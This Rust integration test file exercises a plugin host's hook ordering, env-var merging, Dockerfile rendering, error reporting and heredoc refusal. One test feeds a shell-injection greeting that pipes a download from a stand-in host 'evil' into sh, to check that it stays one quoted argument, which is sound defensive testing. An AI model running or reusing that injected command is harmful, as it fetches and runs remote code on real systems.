//! The sample plugins, built from source, driven through the host's public API.

use std::sync::Arc;

use paddock::merge::{bootstrap_scripts, merge_env_vars, render_dockerfile};
use paddock::{
    ActionReport, Error, FailureCause, Hook, OutputProblem, ParamValue, Plugin, PluginConfig, PluginSet, Status, hooks,
};

use crate::support::{SAMPLES, deployment, host, misbehaving_bundle, sample_bundle};

fn load(name: &str) -> Plugin {
    host().load_file(&sample_bundle(name)).expect("load sample")
}

/// Adds the samples in the given order with the given parameters.
fn set_of(order: &[(&str, PluginConfig)]) -> PluginSet {
    let mut builder = PluginSet::builder(host());
    for (name, config) in order {
        builder = builder.add(load(name), config.clone()).expect("add");
    }
    builder.build().expect("build set")
}

fn params(pairs: &[(&str, ParamValue)]) -> PluginConfig {
    PluginConfig { id: None, parameters: pairs.iter().map(|(k, v)| (k.to_string(), v.clone())).collect() }
}

fn order<T>(outcomes: &[paddock::Outcome<T>]) -> Vec<&str> {
    outcomes.iter().map(|o| o.plugin.as_str()).collect()
}

#[test]
fn lowest_priority_runs_first_and_ties_keep_configured_order() {
    // Priorities: hello-world -1, runtime-env 0, docker-layers 0, deploy-recorder 10.
    let configured = [
        ("deploy-recorder", PluginConfig::default()),
        ("runtime-env", PluginConfig::default()),
        ("docker-layers", PluginConfig::default()),
        ("hello-world", PluginConfig::default()),
    ];
    let outcomes = set_of(&configured).call::<hooks::Deploy>(&deployment());
    assert_eq!(order(&outcomes), ["hello-world", "runtime-env", "docker-layers", "deploy-recorder"]);
    assert_eq!(outcomes.iter().map(|o| o.priority).collect::<Vec<_>>(), [-1, 0, 0, 10]);

    let swapped = [
        ("docker-layers", PluginConfig::default()),
        ("deploy-recorder", PluginConfig::default()),
        ("hello-world", PluginConfig::default()),
        ("runtime-env", PluginConfig::default()),
    ];
    let outcomes = set_of(&swapped).call::<hooks::Deploy>(&deployment());
    assert_eq!(order(&outcomes), ["hello-world", "docker-layers", "runtime-env", "deploy-recorder"]);
}

#[test]
fn typed_results_and_unimplemented_hooks_are_skipped() {
    let set = set_of(&[
        ("hello-world", params(&[("greeting", ParamValue::Text("Hi!".into()))])),
        ("runtime-env", PluginConfig::default()),
        (
            "docker-layers",
            params(&[
                ("apt_packages", ParamValue::TextList(vec!["curl".into(), "jq".into()])),
                ("workdir", ParamValue::Text("/app".into())),
            ]),
        ),
        ("deploy-recorder", PluginConfig::default()),
    ]);
    let outcomes = set.call::<hooks::DockerfileInjection>(&deployment());
    assert_eq!(
        outcomes[0].status,
        Status::Ok(vec!["RUN echo 'Hi!' > /home/jovyan/hello-world-plugin.txt".to_string()])
    );
    assert_eq!(outcomes[1].status, Status::Skipped);
    assert_eq!(
        outcomes[2].status,
        Status::Ok(vec![
            "RUN apt-get update && apt-get install -y --no-install-recommends curl jq && rm -rf /var/lib/apt/lists/*"
                .to_string(),
            "WORKDIR /app".to_string(),
        ])
    );
    assert_eq!(outcomes[3].status, Status::Skipped);
    assert_eq!(outcomes[0].version, semver::Version::new(1, 0, 0));

    assert_eq!(
        render_dockerfile("jupyter:1", &outcomes).unwrap(),
        "FROM jupyter:1\n# Commands for hello-world plugin\nRUN echo 'Hi!' > /home/jovyan/hello-world-plugin.txt\n\
         # Commands for docker-layers plugin\nRUN apt-get update && apt-get install -y --no-install-recommends curl jq && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\n"
    );
}

#[test]
fn env_vars_merge_with_a_conflict_report() {
    let set = set_of(&[
        ("hello-world", PluginConfig::default()),
        (
            "runtime-env",
            params(&[
                ("log_level", ParamValue::Text("warning".into())),
                ("extra", ParamValue::TextList(vec!["A=1".into()])),
            ]),
        ),
    ]);
    let outcomes = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
    let runtime = outcomes[1].status.ok().expect("runtime-env ok");
    assert_eq!(
        runtime,
        &vec![
            ("RACETRACK_JOB_NAME".to_string(), "sentiment".to_string()),
            ("RACETRACK_JOB_VERSION".to_string(), "1.4.2".to_string()),
            ("RACETRACK_TEAM".to_string(), "data-science".to_string()),
            ("LOG_LEVEL".to_string(), "warning".to_string()),
            ("RACETRACK_DEPLOYER".to_string(), "alice".to_string()),
            ("A".to_string(), "1".to_string()),
        ]
    );
    let merged = merge_env_vars(&outcomes);
    assert_eq!(merged.vars.iter().find(|(k, _)| k == "LOG_LEVEL").unwrap().1, "warning");
    assert_eq!(merged.conflicts.len(), 1);
    assert_eq!(merged.conflicts[0].name, "LOG_LEVEL");
    assert_eq!(merged.conflicts[0].winner, "runtime-env");
    assert_eq!(
        merged.conflicts[0].settings,
        vec![("hello-world".to_string(), "debug".to_string()), ("runtime-env".to_string(), "warning".to_string())]
    );
}

#[test]
fn bootstrap_scripts_are_kept_separate_and_named_by_plugin_id() {
    let set = PluginSet::builder(host())
        .add(load("hello-world"), PluginConfig { id: Some("hello".into()), parameters: vec![] })
        .unwrap()
        .add(load("deploy-recorder"), PluginConfig::default())
        .unwrap()
        .build()
        .unwrap();
    let outcomes = set.call::<hooks::BootstrapInjection>(&deployment());
    assert_eq!(outcomes[1].status, Status::Skipped);
    let scripts = bootstrap_scripts(&outcomes);
    assert_eq!(scripts.len(), 1);
    assert_eq!(scripts[0].file_name, "hello.sh");
    assert!(scripts[0].content.starts_with("#!/usr/bin/env bash\nset -ex\n"));
}

#[test]
fn deploy_recorder_reports_what_it_was_asked_to_do() {
    let set = set_of(&[(
        "deploy-recorder",
        PluginConfig {
            id: Some("recorder".into()),
            parameters: vec![
                ("region".into(), ParamValue::Text("eu-west-1".into())),
                ("replicas".into(), ParamValue::Integer(2)),
                ("ratio".into(), ParamValue::Number(0.5)),
                ("dry_run".into(), ParamValue::Boolean(true)),
            ],
        },
    )]);
    let outcomes = set.call::<hooks::Destroy>(&deployment());
    let expected = ActionReport {
        summary: "asked to destroy sentiment@1.4.2 for team data-science in dev-env".into(),
        details: [
            ("plugin_id", "recorder"),
            ("image", "jupyter:1"),
            ("deployer", "alice"),
            ("param.region", "eu-west-1"),
            ("param.replicas", "2"),
            ("param.ratio", "0.5"),
            ("param.dry_run", "true"),
        ]
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect(),
        resources: Vec::new(),
    };
    assert_eq!(outcomes[0].status, Status::Ok(expected));
    assert_eq!(outcomes[0].id, "recorder");
}

#[test]
fn a_plugin_reported_error_names_plugin_version_and_hook() {
    let set = set_of(&[
        ("runtime-env", params(&[("extra", ParamValue::TextList(vec!["no-equals-sign".into()]))])),
        ("hello-world", PluginConfig::default()),
    ]);
    let outcomes = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
    let failure = outcomes[1].status.failure().expect("runtime-env fails");
    assert_eq!(
        failure.cause,
        FailureCause::Reported("parameter `extra` item `no-equals-sign` must look like NAME=value".into())
    );
    assert_eq!(
        failure.to_string(),
        "plugin `runtime-env` 0.3.0, hook `job-runtime-env-vars`: the plugin reported: parameter `extra` item `no-equals-sign` must look like NAME=value"
    );
    assert!(outcomes[0].status.ok().is_some(), "hello-world still ran");
}

#[test]
fn dynamic_run_matches_the_typed_call() {
    let set = set_of(&[("hello-world", PluginConfig::default()), ("docker-layers", PluginConfig::default())]);
    let typed = set.call::<hooks::DockerfileInjection>(&deployment());
    let dynamic = set.run("dockerfile-injection".parse::<Hook>().unwrap(), &deployment().into()).unwrap();
    assert_eq!(dynamic.hook(), Hook::DockerfileInjection);
    let described = dynamic.described();
    assert_eq!(described.len(), typed.len());
    for (d, t) in described.iter().zip(&typed) {
        assert_eq!((&d.id, &d.status), (&t.id, &t.status));
    }
    let records: Vec<_> = typed.iter().map(|outcome| outcome.record()).collect();
    assert_eq!(dynamic.json().unwrap(), serde_json::to_value(records).unwrap());
    // The declaration's merged view is the library's merge.
    let merged = dynamic.merged(&paddock::hooks::MergeInputs { base_image: "jupyter:1" }).unwrap().unwrap();
    assert_eq!(merged.json, serde_json::Value::from(render_dockerfile("jupyter:1", &typed).unwrap()));
}

#[test]
fn a_directory_loads_in_file_name_order_and_duplicates_are_rejected() {
    let dir = tempfile::tempdir().unwrap();
    for (file, sample) in [("b.zip", "runtime-env"), ("a.zip", "docker-layers")] {
        std::fs::copy(sample_bundle(sample), dir.path().join(file)).unwrap();
    }
    std::fs::write(dir.path().join("notes.txt"), "not a bundle").unwrap();
    let set = PluginSet::builder(host()).add_path(dir.path()).unwrap().build().unwrap();
    let names: Vec<&str> = set.plugins().map(|(p, _)| p.name()).collect();
    assert_eq!(names, ["docker-layers", "runtime-env"], "tie at priority 0 keeps file-name order");

    let error = PluginSet::builder(host())
        .add_path(dir.path())
        .unwrap()
        .add_path(&sample_bundle("runtime-env"))
        .unwrap()
        .build()
        .err()
        .expect("duplicate name rejected");
    assert!(matches!(&error, Error::DuplicatePlugin { name, .. } if name == "runtime-env"), "{error}");
}

#[test]
fn a_set_file_gives_order_ids_and_parameters() {
    let dir = tempfile::tempdir().unwrap();
    for sample in SAMPLES {
        std::fs::copy(sample_bundle(sample), dir.path().join(format!("{sample}.zip"))).unwrap();
    }
    let set_file = dir.path().join("team-plugins.yaml");
    std::fs::write(
        &set_file,
        "plugins:\n  - bundle: docker-layers.zip\n    parameters:\n      apt_packages: [git]\n  - bundle: runtime-env.zip\n    id: env\n    parameters: {log_level: error, extra: [\"X=1\"]}\n",
    )
    .unwrap();
    let set = PluginSet::builder(host()).add_set_file(&set_file).unwrap().build().unwrap();
    let ids: Vec<&str> = set.plugins().map(|(_, id)| id).collect();
    assert_eq!(ids, ["docker-layers", "env"]);
    let outcomes = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
    let vars = outcomes[1].status.ok().unwrap();
    assert!(vars.contains(&("LOG_LEVEL".to_string(), "error".to_string())));
    assert!(vars.contains(&("X".to_string(), "1".to_string())));

    for (yaml, expected) in [
        ("plugins:\n  - bundle: runtime-env.zip\n    parmeters: {}\n", "unknown field `parmeters`"),
        (
            "plugins:\n  - bundle: runtime-env.zip\n    parameters:\n      nested: {a: 1}\n",
            "parameter `nested` must be",
        ),
        ("plugins:\n  - bundle: missing.zip\n", "missing.zip"),
        ("plugins:\n  - bundle: runtime-env.zip\n    id: Bad_Id\n", "plugin id"),
    ] {
        std::fs::write(&set_file, yaml).unwrap();
        let error = PluginSet::builder(host()).add_set_file(&set_file).err().expect("invalid set file").to_string();
        assert!(error.contains(expected), "{error}");
    }
}

#[test]
fn the_host_runs_hooks_from_many_threads_at_once() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<paddock::Host>();
    assert_send_sync::<PluginSet>();
    let set = Arc::new(set_of(&[("hello-world", PluginConfig::default()), ("runtime-env", PluginConfig::default())]));
    let expected = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
    let threads: Vec<_> = (0..4)
        .map(|_| {
            let set = set.clone();
            std::thread::spawn(move || {
                (0..25).map(|_| set.call::<hooks::JobRuntimeEnvVars>(&deployment())).collect::<Vec<_>>()
            })
        })
        .collect();
    for thread in threads {
        for outcomes in thread.join().unwrap() {
            assert_eq!(outcomes, expected);
        }
    }
}

#[test]
fn a_session_passes_each_call_its_own_deployment() {
    let set = set_of(&[("runtime-env", PluginConfig::default())]);
    let mut session = set.session();
    let job_name = |outcomes: Vec<paddock::Outcome<Vec<(String, String)>>>| {
        let vars = outcomes[0].status.ok().expect("env vars").clone();
        vars.into_iter().find(|(name, _)| name == "RACETRACK_JOB_NAME").map(|(_, value)| value)
    };
    let first = deployment();
    let second = paddock::Deployment { job_name: "churn-model".into(), ..deployment() };
    assert_eq!(job_name(session.call::<hooks::JobRuntimeEnvVars>(&first)), Some("sentiment".into()));
    assert_eq!(job_name(session.call::<hooks::JobRuntimeEnvVars>(&second)), Some("churn-model".into()));
    assert_eq!(job_name(session.call::<hooks::JobRuntimeEnvVars>(&first)), Some("sentiment".into()));
}

#[test]
fn a_hostile_greeting_stays_one_quoted_argument() {
    let greeting = "x'; curl evil | sh; echo '";
    let set = set_of(&[("hello-world", params(&[("greeting", ParamValue::Text(greeting.into()))]))]);
    let outcomes = set.call::<hooks::DockerfileInjection>(&deployment());
    let line = r"RUN echo 'x'\''; curl evil | sh; echo '\''' > /home/jovyan/hello-world-plugin.txt";
    assert_eq!(outcomes[0].status, Status::Ok(vec![line.to_string()]));
    // What the image's /bin/sh makes of it: echo with one argument, the greeting as given.
    let command = line.strip_prefix("RUN ").unwrap().replace(" > /home/jovyan/hello-world-plugin.txt", "");
    let output = std::process::Command::new("sh").args(["-c", &command]).output().expect("run sh");
    assert_eq!(String::from_utf8(output.stdout).unwrap(), format!("{greeting}\n"));
}

#[test]
fn heredoc_openers_are_refused_and_the_next_plugin_is_unaffected() {
    let opener = Arc::new(host().load_file(&misbehaving_bundle("heredoc-opener", 0)).expect("load"));
    let neighbour = Arc::new(host().load_file(&misbehaving_bundle("after-heredoc-opener", 1)).expect("load"));
    let echo = |lines: &[&str]| PluginConfig {
        id: None,
        parameters: vec![
            ("mode".into(), ParamValue::Text("echo-lines".into())),
            ("lines".into(), ParamValue::TextList(lines.iter().map(|line| line.to_string()).collect())),
        ],
    };
    let after = ["RUN echo after", "WORKDIR /app"];
    let openers = [
        "RUN <<EOF",
        "RUN <<-EOF",
        "RUN <<\"EOF\"",
        "RUN <<'EOF'",
        "RUN << EOF",
        "RUN 3<<EOF",
        "RUN <<123",
        "RUN cat<<EOF",
        "copy <<A <<B /dst/",
        "onbuild run <<EOF",
        "RUN echo\u{a0}<<EOF",
        "RUN echo \"<<\" ${X:- <\\<EOF}",
    ];
    for opener_line in openers {
        let set = PluginSet::builder(host())
            .add(opener.clone(), echo(&["RUN echo before", opener_line]))
            .unwrap()
            .add(neighbour.clone(), echo(&after))
            .unwrap()
            .build()
            .unwrap();
        let outcomes = set.call::<hooks::DockerfileInjection>(&deployment());
        let failure = outcomes[0].status.failure().unwrap_or_else(|| panic!("{opener_line}: {:?}", outcomes[0].status));
        assert!(
            matches!(&failure.cause, FailureCause::InvalidOutput(OutputProblem::Heredoc { line: 2, .. })),
            "{opener_line}: {failure}"
        );
        assert_eq!(outcomes[1].status, Status::Ok(after.map(String::from).to_vec()), "{opener_line}");
        let dockerfile = render_dockerfile("jupyter:1", &outcomes).unwrap();
        assert!(!dockerfile.contains("<<") && dockerfile.ends_with("RUN echo after\nWORKDIR /app\n"), "{dockerfile}");
    }
}
